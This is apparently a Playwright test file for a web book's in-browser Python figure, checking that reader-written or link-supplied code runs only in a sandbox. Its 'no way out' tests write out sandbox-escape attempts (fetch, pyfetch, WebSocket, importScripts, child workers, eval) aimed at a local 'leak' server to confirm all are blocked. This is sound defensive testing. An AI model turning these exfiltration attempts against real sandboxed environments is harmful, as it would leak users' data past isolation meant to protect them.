/** A reader's own Python, and code that somebody else put into a link: it may compute, and it may fail, and no more. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import type { Locator, Page, Worker } from '@playwright/test';
import { DIG } from './dig';
import { Figure } from './figure';
import { expect, test as base } from './fixtures';

const PAGE = 'figures/your-algorithm/';
const NAME = 'your-algorithm';
const SILENCE = 'didn’t respond for 3 seconds';

/** A server of another origin that hands out whatever is asked for, to anybody, and remembers what was. */
interface Outside {
  address: string;
  asked: string[];
}

const test = base.extend<{ outside: Outside; figure: CodeFigure }>({
  // eslint-disable-next-line no-empty-pattern
  outside: async ({}, use) => {
    const asked: string[] = [];
    const server: Server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
      response.end('export default 1;');
    });
    server.on('connection', () => asked.push('(a connection)'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({ address: `127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
    server.closeAllConnections();
    server.close();
  },

  figure: async ({ page }, use) => {
    await page.goto(PAGE);
    await use(new CodeFigure(page));
  },
});

class CodeFigure extends Figure {
  readonly editor: Locator;
  readonly alert: Locator;

  constructor(page: Page) {
    super(page, NAME);
    this.editor = this.root.locator('.cm-content');
    this.alert = this.root.getByRole('alert').filter({ visible: true });
  }

  get runButton(): Locator {
    return this.root.getByRole('button', { name: 'Run', exact: true });
  }

  get original(): Locator {
    return this.root.getByRole('button', { name: 'Restore the original' });
  }

  async run(...lines: string[]): Promise<void> {
    await this.editor.fill(lines.join('\n'));
    await this.runButton.click();
  }

  /** Does Python still, or again, answer? */
  async worksAgain(): Promise<void> {
    await this.original.click();
    await expect(this.alert).toHaveCount(0);
    await this.settled();
    await this.run('raise ValueError("here I am")');
    await expect(this.alert).toContainText('here I am');
  }

  /** The worker behind glass, once Python runs in it. */
  async worker(): Promise<Worker> {
    await this.run('raise ValueError("started")');
    await expect(this.alert).toContainText('started');
    return this.page.workers().find((worker) => worker.url().startsWith('blob:null/'))!;
  }
}

test('an endless loop is stopped and named; the page answers meanwhile, and the next run works', async ({ figure }) => {
  await figure.worker();
  await figure.run('x = 0', 'while True:', '    x += 1');
  await figure.behind('Python');
  await expect(figure.root.getByRole('tabpanel')).toContainText(`inflight run ${NAME}`);
  expect(await figure.alert.count(), 'the tab opened before the loop was stopped').toBe(0);
  await expect(figure.alert).toContainText(SILENCE);
  await figure.worksAgain();
});

test('memory has an end, and its end is told', async ({ figure }) => {
  await figure.run('hoard = []', 'while True:', '    hoard.append(bytearray(1 << 26))');
  await expect(figure.alert).toContainText('MemoryError');
  await figure.worksAgain();
});

test('an error names the reader’s own line, and the editor marks it', async ({ figure }) => {
  await figure.run('fine = 1', '', 'fine / 0');
  await expect(figure.alert).toContainText('line 3');
  await expect(figure.alert).toContainText('division by zero');
  await expect(figure.root.locator('.cm-errorLine')).toHaveText('fine / 0');
  await figure.run('fine = 1', 'fine +');
  await expect(figure.alert).toContainText('line 2');
  await expect(figure.root.locator('.cm-errorLine')).toHaveText('fine +');
});

test.describe('no way out', () => {
  // The browser tells of requests that it stops; `outside` knows whether one got through.
  test.use({ expectedErrors: [/Content Security Policy|Failed to load|ERR_|WebSocket|Access to|asks another.*leak/i] });

  const doors = {
    fetch: 'import js\njs.fetch("{there}")',
    'run_js, which fetches': 'from pyodide.code import run_js\nrun_js("fetch(\'{there}\')")',
    localStorage: 'import js\njs.localStorage.setItem("a", "b")',
    'postMessage of a forged result': 'import js\njs.postMessage({"type": "done", "id": 1})',
    'pyodide.http': 'from pyodide.http import pyfetch\npyfetch("{there}")',
  };
  for (const [door, code] of Object.entries(doors)) {
    test(`from Python: ${door}`, async ({ figure, outside }) => {
      const before = await figure.sentence.textContent();
      await figure.run(DIG, ...code.replace('{there}', `http://${outside.address}/leak`).split('\n'));
      await expect(figure.alert).toContainText(/line 2: .*(js|pyodide).*shut off/);
      expect(await figure.sentence.textContent()).toBe(before);
      expect(outside.asked).toEqual([]);
    });
  }

  test('from JavaScript, had the reader got hold of it', async ({ figure, outside, page, baseURL }) => {
    const worker = await figure.worker();
    const answered: string[] = [];
    page.context().on('response', (response) => answered.push(response.url()));
    const outcomes = await worker.evaluate(
      async ([foreign, own]) => {
        const said = (work: () => unknown) =>
          Promise.race([
            Promise.resolve()
              .then(work)
              .then(
                (value) => `done: ${String(value)}`,
                (error: unknown) => `refused: ${String(error)}`,
              ),
            new Promise<string>((resolve) => setTimeout(() => resolve('no answer'), 1500)),
          ]);
        const event = (source: EventTarget, good: string) =>
          new Promise((resolve, reject) => {
            source.addEventListener(good, resolve);
            source.addEventListener('error', () => reject(new Error('error event')));
          });
        // What a debugger says may be evaluated; what runs later may not.
        const later = (work: () => unknown) => () =>
          new Promise((resolve, reject) => {
            setTimeout(() => {
              try {
                resolve(work());
              } catch (error) {
                reject(error);
              }
            });
          });
        const request = (url: string) => {
          const xhr = new XMLHttpRequest();
          xhr.open('GET', url, false);
          xhr.send();
          return xhr.status;
        };
        // A worker of its own has a `fetch` that nobody has touched.
        const child = (url: string) =>
          new Promise((resolve, reject) => {
            const text = `fetch('${url}', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`;
            const inner = new Worker(URL.createObjectURL(new Blob([text])));
            inner.onmessage = ({ data }) => (data ? resolve('fetched') : reject(new Error('not fetched')));
            inner.onerror = () => reject(new Error('not started'));
          });
        const { WorkerGlobalScope: scope } = self as unknown as { WorkerGlobalScope: { prototype: object } };
        const { importScripts } = scope.prototype as unknown as { importScripts: (url: string) => void };
        const tries: Record<string, () => unknown> = {
          indexedDB: () => event(indexedDB.open('x'), 'success'),
          caches: () => caches.open('x'),
          eval: later(() => (0, eval)('1')),
          Function: later(() => new Function('return 1')()),
        };
        for (const [whose, host] of Object.entries({ foreign, own })) {
          const url = `http://${host}/leak`;
          tries[`${whose} fetch in a worker`] = () => child(url);
          tries[`${whose} XMLHttpRequest`] = () => request(url);
          tries[`${whose} WebSocket`] = () => event(new WebSocket(`ws://${host}/leak`), 'open');
          tries[`${whose} EventSource`] = () => event(new EventSource(url), 'open');
          tries[`${whose} import`] = () => import(url);
          tries[`${whose} font`] = () => new FontFace('x', `url(${url})`).load();
          tries[`${whose} worker`] = () => event(new Worker(url), 'message');
          tries[`${whose} importScripts`] = () => importScripts.call(self, url);
        }
        return Object.fromEntries(
          await Promise.all(Object.entries(tries).map(async ([name, work]) => [name, await said(work)] as const)),
        );
      },
      [outside.address, new URL(baseURL!).host] as const,
    );
    expect(Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('done'))).toEqual([]);
    expect(outside.asked).toEqual([]);
    expect(answered.filter((url) => url.includes('leak'))).toEqual([]);
    expect(await worker.evaluate(() => self.origin)).toBe('null');
  });
});

test('what is no result is not drawn, and costs no more than a new start', async ({ figure, page }) => {
  await figure.view.selectOption('Curves');
  await figure.editor.focus();
  const before = await figure.curves();
  await page.keyboard.press('ControlOrMeta+Home');
  await page.keyboard.type(`${DIG}\n`);
  await page.keyboard.type(
    'import inflight.figure.result\ninflight.figure.result.Result.head = lambda self: {"sentence": {}}\n',
  );
  await figure.runButton.click();
  await expect(figure.alert).toContainText('isn’t a result');
  expect(await figure.curves()).toBe(before);
  await figure.worksAgain();
});

test.describe('code that comes with a link', () => {
  const link = (code: string) => `${PAGE}?${NAME}.code=${deflateRawSync(Buffer.from(code)).toString('base64url')}`;

  test('is shown, is not run, and runs when the reader says so', async ({ page }) => {
    await page.goto(link('raise ValueError("from the link")\n'));
    const figure = new CodeFigure(page);
    await expect(figure.editor).toContainText('from the link');
    await expect(figure.root.getByText('This code came with the link')).toBeVisible();
    // Python starts, and any slider runs, with the book's own code.
    await figure.slider('Buffer').focus();
    await page.keyboard.press('ArrowRight');
    await figure.settled();
    await expect(figure.alert).toHaveCount(0);
    await expect(figure.editor).toContainText('from the link');
    expect(new URL(page.url()).searchParams.has(`${NAME}.code`)).toBe(true);

    await figure.runButton.click();
    await expect(figure.alert).toContainText('from the link');
    await expect(figure.root.getByText('This code came with the link')).toHaveCount(0);
  });

  test('that cannot be read: the book’s own, and a word about it', async ({ page }) => {
    await page.goto(`${PAGE}?${NAME}.code=certainly-not-deflated`);
    const figure = new CodeFigure(page);
    await expect(figure.root.getByText('Some values in the link don’t work here')).toBeVisible();
    await expect(figure.root.getByText('This code came with the link')).toHaveCount(0);
  });

  test('what the reader wrote comes back from the address', async ({ figure, page }) => {
    await figure.run('raise ValueError("mine, ümlaut and all")');
    await expect(figure.alert).toContainText('ümlaut');
    await expect.poll(() => figure.address()).toHaveProperty([`${NAME}.code`]);
    await page.reload();
    await expect(figure.editor).toContainText('ümlaut and all');
  });
});

test('the keyboard gets in, runs, and gets out again', async ({ figure, page }) => {
  await figure.editor.focus();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.type('raise ValueError("typed")');
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(figure.alert).toContainText('typed');
  await page.keyboard.press('Tab');
  await expect(figure.editor).toBeFocused();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  await expect(figure.editor).not.toBeFocused();
});
